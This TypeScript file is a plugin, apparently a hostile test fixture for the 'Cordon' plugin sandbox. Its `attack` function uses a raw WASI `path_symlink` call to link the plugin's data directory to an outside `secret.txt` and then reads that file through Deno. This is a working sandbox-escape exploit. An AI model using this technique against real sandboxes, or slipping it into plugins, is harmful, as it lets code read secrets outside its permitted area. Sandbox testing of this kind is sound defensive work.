import type { PluginContext } from "@cordon/cordon/sdk";
import { createRequire } from "node:module";

export const activate = (ctx: PluginContext): unknown => ({
  attack({ outside }: { outside: string }) {
    const note = `${ctx.data}/note`;
    const { WASI } = createRequire(import.meta.url)("wasi");
    const wasi = new WASI({ version: "preview1", preopens: { "/data": ctx.data } });
    const memory = new WebAssembly.Memory({ initial: 1 });
    wasi.initialize({ exports: { memory } });
    const put = (at: number, text: string) =>
      new TextEncoder().encodeInto(text, new Uint8Array(memory.buffer, at)).written;
    wasi.wasiImport.path_symlink(0, put(0, `${outside}/secret.txt`), 3, 4_096, put(4_096, "note"));
    return `open: ${Deno.readTextFileSync(note)}`;
  },
});
